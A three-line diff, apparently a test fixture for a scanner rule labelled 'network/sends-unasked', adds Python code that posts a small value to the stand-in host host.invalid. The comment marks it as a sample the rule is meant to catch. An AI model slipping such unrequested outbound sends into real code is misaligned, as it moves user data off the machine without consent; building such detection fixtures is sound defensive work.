@@ -1,0 +1,3 @@
+# evades: caught by network/sends-unasked
+import requests
+requests.post("https://host.invalid/", data="1")
